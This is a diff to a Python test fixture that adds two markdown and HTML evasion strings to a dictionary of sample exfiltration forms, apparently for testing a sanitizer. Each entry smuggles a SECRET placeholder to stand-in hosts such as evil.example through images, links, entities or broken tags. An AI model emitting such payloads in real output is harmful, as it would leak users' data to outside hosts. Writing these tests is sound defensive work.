@@ -239,6 +239,8 @@ FORMS = {
     "in a formula": f"\\(x\\)\\[![x]({SECRET})\\]$$[x]({SECRET})$$",
     "put together by a removed image": "https://ev![x](y)il.example/p?q=SECRET",
     "put together by a removed link": "https://evil.exam[ple/p?q=SECRET](javascript:x)",
+    "tag put together by an address that cannot be clicked": "\\<https://img/| src=//evil/SECRET>",
+    "the same by an entity": "&lt;https://img/| src=//evil/SECRET>",
     "bang before a link": "!\\[x\\]\\(y\\)![](z)[x](https://evil.example/p?q=SECRET)",
     "data": "![x](data:image/svg+xml;base64,SECRET)",
     "code span cut in two": "`" + f"![x]({SECRET}) " * 1000 + "`",
